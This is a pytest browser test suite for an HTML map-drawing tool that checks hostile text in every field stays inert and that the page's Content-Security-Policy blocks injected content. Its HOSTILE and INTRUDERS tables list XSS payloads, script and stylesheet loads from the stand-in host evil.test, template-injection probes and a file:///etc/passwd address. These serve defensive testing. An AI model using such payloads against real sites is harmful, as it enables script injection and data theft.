"""Hostile text in every field of the page: nothing executes, nothing loads, nothing breaks."""

from __future__ import annotations

import csv
import json
import re
from dataclasses import replace
from pathlib import Path
from typing import Any
from urllib.parse import quote

import numpy as np
import pytest

from warmap import Article, draw_map, read_place_list
from warmap.geocache import GeocodeCache
from warmap.geocode import Geocoder
from warmap.layers import open_gazetteer
from warmap.model import Candidate, Mention, Resolution, Rival
from warmap.places import find_resolutions, resolve_spans, to_frame
from warmap.provenance import line_said
from warmap.tally import PlaceTally, Quote, Tally
from warmap.wording import wording

pytestmark = pytest.mark.browser

HARMLESS = "Zorya"
HOSTILE = {
    "script": "<script>window.owned=1</script><SCRIPT SRC=//evil.test/x.js></SCRIPT>",
    "end of element": "</script></title></style></textarea></noscript></table></article></main>"
    "</template><svg onload=window.owned=1><svg/><script>window.owned=1</script>",
    "event handlers": "\"'><img src=x onerror=window.owned=1><details open ontoggle=window.owned=1>"
    "<a href=javascript:window.owned=1 autofocus onfocus=window.owned=1 tabindex=1>x</a>",
    "attributes": "' onmouseover='window.owned=1' style='position:fixed' \""
    ' onfocus="window.owned=1" autofocus tabindex=1 x=`',
    "template literal": "${window.owned=1} `${window.owned=1}` \\`\\${1} \\u003cscript\\u003e \\",
    "template": "{{7*7}} {{ ''.__class__.__mro__ }} {% raw %} {% endraw %} {% for %} {# c #} {{",
    "blanks": "{count} {name} {where} {0} {} } { {x.__class__.__init__} %s %(x)s"
    " $& $1 $` $$ \\1 \\g<0>",
    "markup": "<!-- --> <!--<script> <![CDATA[ ]]> --!> &lt;b&gt; &amp; &#60; &nbsp <b <i/> </",
    "holes": "<!-- warmap: data --> <!-- warmap: title --> <!-- map --> <!-- warmap: no -->",
    "addresses": "javascript:window.owned=1 data:text/html,<script>window.owned=1</script>"
    " //evil.test/x https://evil.test/x.png url(https://evil.test/y.png) file:///etc/passwd",
    "loads": "<link rel=stylesheet href=//evil.test/a.css><style>@import '//evil.test/b.css';"
    "*{display:none}</style><meta http-equiv=refresh content='0;url=//evil.test/'><base href="
    "//evil.test/><iframe srcdoc='<script>parent.owned=1</script>'></iframe>"
    "<object data=x></object>",
    "clobbering": "<form id=map_warmap><input name=textContent><a id=warmap-data name=L></a>",
    "names of objects": "__proto__ constructor toString hasOwnProperty",
    "prototype": "__proto__",
    "line ends": "a\u2028b\u2029c\x85d\x0be\x0cf\rg",
    "controls": "a\0b\x01\x1b[2J\x7f\x9f \ufffe\uffff\ufeff z",
    "bidi": "\u202eover\u202c \u2066in\u2069 \u200f\u061c שלום עולם مرحبا \u202e",
    "pictures": "👩\u200d👩\u200d👧\u200d👦 🏴\U000e0067\U000e007f 𝒳 e" + "\u0301" * 300,
    "spreadsheet": "=HYPERLINK(\"http://evil.test\",\"x\") +1 @SUM(1) -2 ;,\t'\"",
    "one long word": "x" * 100_000,
    "many words": "<b>" * 20_000 + "word " * 20_000,
}  # fmt: skip
ALL = " ".join(text for kind, text in HOSTILE.items() if len(text) < 1000 and "\0" not in text)
CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")
ONE_LINE = " ".join(CONTROL.sub("", ALL).split())


def visible(text: str) -> str:
    """What a reader is to see of a text."""
    return CONTROL.sub(lambda found: f"U+{ord(found.group()):04X}", text)


def without_blanks(text: str) -> str:
    return "".join(text.split())


# --- what is looked at ----------------------------------------------------------------------

# All kinds of elements with their kinds of attributes, and the kinds of what they lead to.
KINDS_OF = """const found = new Set();
const lookAt = (node) => {
  found.add(node.localName);
  for (const { name, value } of node.attributes) {
    found.add(`${node.localName} ${name}`);
    if (["href", "src", "srcdoc", "action", "data"].includes(name)) {
      found.add(`leads to ${value.startsWith("#") ? "#" : value.slice(0, 5)}`);
    }
  }
};
const look = (root) => [root, ...root.querySelectorAll("*")].forEach(lookAt);
look(document.documentElement);
"""
# Press, enter and type into whatever can be, twice: what opens has buttons of its own. Whatever
# stood in the page for a moment is looked at as well.
USE_EVERYTHING = f"""async text => {{
  {KINDS_OF}
  const seen = records => {{
    for (const {{ target, addedNodes }} of records) {{
      if (target instanceof Element) lookAt(target);
      for (const node of addedNodes) if (node instanceof Element) look(node);
    }}
  }};
  const observer = new MutationObserver(seen);
  observer.observe(document, {{ subtree: true, childList: true, attributes: true }});
  const wanted =
    "button, a[href], input, select, textarea, summary, label, [tabindex], [role=button]";
  for (let round = 0; round < 2; round++) {{
    for (const node of [...document.querySelectorAll(wanted)].slice(0, 400)) {{
      if (!node.isConnected) continue; // what is gone nobody presses
      for (const type of ["mouseover", "mouseenter", "focus"]) {{
        node.dispatchEvent(new Event(type, {{ bubbles: true }}));
      }}
      node.focus?.();
      if (node.matches("input:not([type=checkbox], [type=radio], [type=range]), textarea")) {{
        for (const value of [text.slice(0, 1000), ""]) {{
          node.value = value;
          node.dispatchEvent(new Event("input", {{ bubbles: true }}));
        }}
      }}
      node.dispatchEvent(new MouseEvent("click", {{ bubbles: true, cancelable: true }}));
      await null;
      seen(observer.takeRecords());
    }}
  }}
  dispatchEvent(new Event("beforeprint"));
  await new Promise(resolve => requestAnimationFrame(() => requestAnimationFrame(resolve)));
  seen(observer.takeRecords());
  return [...found];
}}"""


def kinds_used(page: Any, text: str) -> set[str]:
    """Use the whole page; give the kinds of elements and attributes that were ever in it."""
    return set(page.evaluate(USE_EVERYTHING, text))


def assert_inert(watched: Any, path: Path) -> None:
    assert watched.page.evaluate("[window.owned, Object.prototype.owned]") == [None, None]
    asked = [request for request in watched.requests if not request.startswith("blob:")]
    assert [request.partition("#")[0] for request in asked] == [path.as_uri()]
    assert watched.complaints == []


# --- every field of the records -------------------------------------------------------------


def place(text: str, number: int, **changes: Any) -> Candidate:
    given = {"country": "UA", "admin1": "UA-14"} | changes
    return Candidate(
        "user", f"{number} {text}", text, f"{text}.", "village",
        lat=48.0 + number / 10, lon=37.0 + number / 10, former=(text, text), placed_by=text,
        precision="hromada", radius_km=9.0, **given,
    )  # fmt: skip


def records(text: str) -> tuple[Article, list[Resolution]]:
    """An article and resolutions whose every text is the given one."""
    whole = f"At {text} and {text}, {text} too. It rained."
    first = 3
    second = first + len(text) + 5
    rivals = tuple(Rival(place(text, number), 0.3) for number in (2, 3))

    def found(start: int, **given: Any) -> Resolution:
        mention = Mention(start, start + len(text) if start >= 0 else -1, text)
        quote_start = 0 if start >= 0 else -1
        return Resolution(mention, whole if start >= 0 else "", quote_start, reason=text, **given)

    sure = found(first, candidate=place(text, 0), score=0.4, status="resolved", rivals=rivals)
    unknown = found(second, rivals=rivals)
    added = found(-1, candidate=place(text, 1, country=text, admin1=text), status="resolved")
    return Article(whole, title=text, source=text, date=text), [sure, unknown, added]


def drawn(text: str, path: Path) -> Path:
    article, found = records(text)
    draw_map(found, article=article).save(path)
    return path


@pytest.fixture(scope="module")
def harmless(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return drawn(HARMLESS, tmp_path_factory.mktemp("harmless") / "h.html")


@pytest.fixture(scope="module")
def harmless_kinds(harmless: Path, browser: Any) -> set[str]:
    context = browser.new_context(viewport={"width": 1280, "height": 800}, offline=True)
    page = context.new_page()
    page.goto(harmless.as_uri())
    page.wait_for_selector("html[data-whole=yes]", state="attached")
    kinds = kinds_used(page, HARMLESS)
    context.close()
    return kinds


@pytest.mark.parametrize("kind", HOSTILE)
def test_a_hostile_text_in_every_field_stays_text(
    kind: str, harmless_kinds: set[str], tmp_path: Path, opened: Any
) -> None:
    text = HOSTILE[kind]
    path = drawn(text, tmp_path / "x.html")
    watched = opened(path, hash_=f"#p-{quote(text[:500])}")
    page = watched.page
    assert page.title().split() == CONTROL.sub("\ufffd", text).split()
    article = page.locator("article").evaluate("node => node.textContent")
    assert without_blanks(article) == without_blanks(visible(records(text)[0].text))
    page.locator(".leaflet-marker-icon.place").first.dispatch_event("click")
    name = page.locator(".leaflet-popup h2").evaluate("node => node.textContent")
    assert name.startswith(visible(text))
    # Control characters are shown in elements, and names that find no room are hidden.
    assert kinds_used(page, text) - harmless_kinds <= {"span", "span class", "div hidden"}
    assert_inert(watched, path)


def test_hostile_texts_stay_text_without_javascript(
    harmless: Path, tmp_path: Path, browser: Any
) -> None:
    found = []
    for path in (harmless, drawn(ALL, tmp_path / "x.html")):
        context = browser.new_context(java_script_enabled=False, offline=True)
        page = context.new_page()
        requests: list[str] = []
        page.on("request", lambda request, kept=requests: kept.append(request.url))
        page.goto(path.as_uri())
        found.append(set(page.evaluate(f"() => {{ {KINDS_OF} return [...found]; }}")))
        assert requests == [path.as_uri()]
        if path != harmless:
            assert visible(HOSTILE["markup"]) in page.locator("tr td").first.text_content()
        context.close()
    assert found[1] - found[0] <= {"span", "span class"}


def several_drawn(texts: list[str], path: Path) -> Path:
    """A page of several articles, each with one of the texts in its every field."""
    articles, found = zip(*(records(text) for text in texts), strict=True)
    draw_map(found, article=articles, title=texts[0]).save(path)
    return path


def test_hostile_titles_sources_and_dates_of_several_articles(tmp_path: Path, opened: Any) -> None:
    texts = [text for text in HOSTILE.values() if len(text) < 1000]
    path = several_drawn(texts, tmp_path / "x.html")
    calm = opened(several_drawn([HARMLESS] * len(texts), tmp_path / "h.html"))
    usual = kinds_used(calm.page, HARMLESS)
    watched = opened(path, hash_="#a-2")
    page = watched.page
    heads = page.locator("#article h2").all_text_contents()
    assert [without_blanks(head) for head in heads] == [
        without_blanks(visible(text)) for text in texts
    ]
    told = page.locator("#credits .origins li").all_text_contents()
    for text, origin in zip(texts, told, strict=True):
        assert without_blanks(visible(text)) in without_blanks(origin)
    options = page.locator("#articles option:not([value=''], [value=some])").all_text_contents()
    for text, option in zip(texts, options, strict=True):
        start = " ".join(CONTROL.sub("\ufffd", text).split())[:40]
        assert start in " ".join(option.split())
    page.select_option("#articles", "")
    page.locator(".leaflet-marker-icon.place").first.dispatch_event("click")
    assert page.locator(".leaflet-popup .whose").count() > 0
    assert kinds_used(page, ALL) - usual <= {"span", "span class", "div hidden"}
    assert_inert(watched, path)


# --- a corpus -------------------------------------------------------------------------------


def corpus_drawn(text: str, path: Path) -> Path:
    """A page of a corpus whose every text is the given one."""
    told = Quote(
        f"At {text}.", ((3, 3 + len(text)),), "government", 0.4, text, text, text, text, text,
        f"https://a.example/ {text}",
    )  # fmt: skip
    cells = np.array([(-1, 1, 2, 1), (0, 0, 1, 2), (1, 1, 2, 3)], dtype=np.int64)
    places = tuple(
        PlaceTally(place(text, number), 6, 9, 6, cells, (told, replace(told, source="AFP")))
        for number in (0, 1)
    )
    tally = Tally(
        unit="week", periods=("2025-06-02", "2025-06-09"), sources=(text, f"{text}."),
        other_sources=3, articles=np.array([[4, 2, 0], [1, 0, 1]], dtype=np.int64), places=places,
        unresolved=((text, 3),), done=8, failed=1, duplicates=0, undated=1, count_once=False,
        first_day="2025-06-03", last_day="2025-06-11", title=text,
    )  # fmt: skip
    draw_map(tally).save(path)
    return path


def card_with_quotes(page: Any) -> str:
    """Open the card of a place and wait for its quotes; gives what it says."""
    page.locator(".leaflet-marker-icon.place").first.dispatch_event("click")
    page.wait_for_selector(".leaflet-popup blockquote", state="attached")
    return str(page.locator(".leaflet-popup .card").last.evaluate("node => node.textContent"))


@pytest.fixture(scope="module")
def corpus_kinds(tmp_path_factory: pytest.TempPathFactory, browser: Any) -> set[str]:
    context = browser.new_context(viewport={"width": 1280, "height": 800}, offline=True)
    page = context.new_page()
    page.goto(corpus_drawn(HARMLESS, tmp_path_factory.mktemp("corpus") / "h.html").as_uri())
    page.wait_for_selector("html[data-whole=yes]", state="attached")
    card_with_quotes(page)
    kinds = kinds_used(page, HARMLESS)
    context.close()
    return kinds


@pytest.mark.parametrize("kind", [kind for kind, text in HOSTILE.items() if len(text) < 1000])
def test_a_hostile_text_in_every_field_of_a_corpus_stays_text(
    kind: str, corpus_kinds: set[str], tmp_path: Path, opened: Any
) -> None:
    text = HOSTILE[kind]
    path = corpus_drawn(text, tmp_path / "x.html")
    watched = opened(path, hash_=f"#p-{quote(text[:500])}")
    page = watched.page
    assert page.title().split() == CONTROL.sub("\ufffd", line_said(text)).split()
    said = card_with_quotes(page)
    assert said.startswith(visible(text))
    assert f"At {visible(text)}." in said
    assert kinds_used(page, text) - corpus_kinds <= {"span", "span class", "div hidden"}
    assert_inert(watched, path)


# --- the ways that texts come in ------------------------------------------------------------

TEXT = "Fighting went on in the village of Robotyne in Ukraine's Zaporizhzhia region."


def test_a_hostile_article_is_read_as_any_other(tmp_path: Path, opened: Any) -> None:
    text = "\n".join([*HOSTILE.values(), "They left the town of Mezhova.", *HOSTILE.values()])
    path = tmp_path / "x.html"
    draw_map(to_frame(find_resolutions(text)), article=Article(text)).save(path)
    watched = opened(path)
    watched.page.click("[data-place=mezhova]")
    assert watched.page.locator(".leaflet-popup mark").inner_text() == "Mezhova"
    kinds_used(watched.page, ALL)
    assert_inert(watched, path)


def test_a_hostile_place_list(tmp_path: Path, opened: Any) -> None:
    text = f"{TEXT} They passed {ONE_LINE} later."
    mine = tmp_path / f"{HOSTILE['event handlers'].replace('/', '')}.csv"
    with mine.open("w", encoding="utf-8", newline="") as file:
        rows = csv.writer(file)
        rows.writerow(["name", "action", "lat", "lon", "kind", "source", "note"])
        rows.writerow(["Robotyne", "pin", "47.44", "35.83", "village", ALL, ALL])
        rows.writerow([ONE_LINE.replace("|", ""), "add", "47.5", "35.9", "site", ALL, ALL])
    found = find_resolutions(text, place_list=read_place_list(mine))
    path = tmp_path / "x.html"
    draw_map(found, article=Article(text)).save(path)
    watched = opened(path, hash_="#p-robotyne")
    said = watched.page.locator(".leaflet-popup").evaluate("node => node.textContent")
    assert HOSTILE["script"] in said
    kinds_used(watched.page, ALL)
    assert_inert(watched, path)


def test_a_hostile_gazetteer(tmp_path: Path, opened: Any) -> None:
    text = f"They passed {ONE_LINE} later."
    mine = tmp_path / "mine.csv"
    with mine.open("w", encoding="utf-8", newline="") as file:
        rows = csv.writer(file)
        rows.writerow(["name", "lat", "lon", "local_name", "kind", "country", "admin1"])
        rows.writerow([ONE_LINE, "48.4", "37.6", ONE_LINE + "!", "village", "UA", "UA-14"])
        rows.writerow([ONE_LINE, "48.1", "37.2", ONE_LINE + "?", "village", "UA", "UA-14"])
    span = (12, 12 + len(ONE_LINE))
    places = resolve_spans(text, [span], gazetteer=open_gazetteer([mine]))
    assert places["source"].tolist() == ["user"]
    path = tmp_path / "x.html"
    draw_map(places, article=Article(text)).save(path)
    watched = opened(path)
    watched.page.evaluate("document.getElementById('m-0').click()")
    assert ONE_LINE in watched.page.locator(".leaflet-popup h2").evaluate("n => n.textContent")
    kinds_used(watched.page, ALL)
    assert_inert(watched, path)


def test_hostile_names_of_towns_for_orientation(
    tmp_path: Path, opened: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    towns = [
        {"name": name, "point": [46.0 + number, 33.0], "zoom": 2}
        for number, name in enumerate((ALL, HOSTILE["script"], HOSTILE["prototype"]))
    ]
    monkeypatch.setattr("warmap.pageplaces.towns_around", lambda *_, **__: towns)
    path = tmp_path / "x.html"
    draw_map(find_resolutions("Shelling hit Odesa and Kharkiv."), article=Article("")).save(path)
    watched = opened(path)
    assert HOSTILE["script"] in watched.page.locator(".town-label").all_inner_texts()
    kinds_used(watched.page, ALL)
    assert_inert(watched, path)


def test_a_hostile_geocoder(tmp_path: Path, loopback: Any, reply: Any, opened: Any) -> None:
    text = "They left Nowhereville. Fighting went on in Ukraine's Zaporizhzhia region."
    answer = {
        "osm_type": ALL, "osm_id": 7, "lat": "47.4436", "lon": "35.8372", "class": "place",
        "type": "village", "name": ALL, "display_name": ALL, "addresstype": "village",
        "address": {"country_code": ALL, "ISO3166-2-lvl4": ALL, "village": ALL},
        "namedetails": {"name": "Nowhereville", "name:uk": ALL, ALL: ALL}, "licence": ALL,
    }  # fmt: skip
    loopback.reply(reply(json.dumps([answer]).encode()))
    cache = GeocodeCache(tmp_path / "answers.sqlite")
    asking = Geocoder("nominatim", user_agent="Test", server=loopback.url, cache=cache)
    start = text.index("Nowhereville")
    region = text.index("Zaporizhzhia")
    spans = [(start, start + 12), (region, region + len("Zaporizhzhia region"))]
    places = resolve_spans(text, spans, gazetteer=open_gazetteer(geocoder=asking))
    assert places["source"].tolist()[0] == "nominatim"
    path = tmp_path / "x.html"
    draw_map(places, article=Article(text)).save(path)
    watched = opened(path)
    watched.page.evaluate("document.getElementById('m-0').click()")
    said = watched.page.locator(".leaflet-popup h2").evaluate("node => node.textContent")
    assert HOSTILE["script"] in said
    kinds_used(watched.page, ALL)
    assert_inert(watched, path)


def hostile_words(entry: Any) -> Any:
    if isinstance(entry, str):
        return entry + ALL
    return {key: hostile_words(value) for key, value in entry.items()}


def test_hostile_words_of_the_page(
    tmp_path: Path, opened: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    words = hostile_words(wording("en"))
    monkeypatch.setattr("warmap.page.wording", lambda _: words)
    article, found = records(HARMLESS)
    path = tmp_path / "x.html"
    draw_map(found, article=article).save(path)
    watched = opened(path)
    assert watched.page.locator("#tab-places").inner_text().startswith("Places<script>")
    kinds_used(watched.page, ALL)
    assert_inert(watched, path)


# --- the policy -----------------------------------------------------------------------------


def test_the_policy_names_no_host_and_lets_no_text_run(harmless: Path) -> None:
    html = harmless.read_text(encoding="utf-8")
    policies = re.findall(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">', html)
    assert len(policies) == 1
    rules = {rule.split()[0]: rule.split()[1:] for rule in policies[0].split("; ")}
    assert rules["default-src"] == ["'none'"]
    assert rules["base-uri"] == rules["form-action"] == ["'none'"]
    for name in ("script-src", "style-src"):
        assert all(re.fullmatch(r"'sha256-[\w+/]{43}='", value) for value in rules[name])
    assert set(rules["img-src"]) <= {"data:", "blob:"}
    known = {"default-src", "script-src", "style-src", "img-src", "base-uri", "form-action"}
    assert set(rules) == known
    assert html.index("Content-Security-Policy") < html.index("<script")


INTRUDERS = {
    "script-src-elem": "<script>window.owned = 1</script>",
    "script-src-attr": "<b onclick='window.owned = 1'>x</b>",
    "style-src-elem": "<style>* { color: red }</style>",
    "style-src-attr": "<b style='color: red'>x</b>",
    "img-src": "<img src='https://evil.test/x.png'>",
    "frame-src": "<iframe src='https://evil.test/'></iframe>",
    "media-src": "<video src='https://evil.test/x.mp4'></video>",
    "object-src": "<object data='https://evil.test/x'></object>",
    "base-uri": "<base href='https://evil.test/'>",
}


def test_what_got_in_all_the_same_would_be_refused(harmless: Path, opened: Any) -> None:
    watched = opened(harmless)
    failed: list[str] = []
    watched.page.on("requestfailed", lambda request: failed.append(request.failure))
    refused = watched.page.evaluate(
        """async intruders => {
          const found = {};
          for (const [rule, html] of Object.entries(intruders)) {
            found[rule] = await new Promise(resolve => {
              addEventListener("securitypolicyviolation", resolve, { once: true });
              document.body.append(document.createRange().createContextualFragment(html));
              document.body.lastElementChild.click();
            }).then(event => event.effectiveDirective);
          }
          return found;
        }""",
        INTRUDERS,
    )
    assert refused == {rule: rule for rule in INTRUDERS}
    assert watched.page.evaluate("window.owned") is None
    # The browser also tells of requests that it refused to make.
    made = [request for request in watched.requests if "evil.test" in request]
    assert len(made) == len(failed)
    assert set(failed) <= {"csp"}
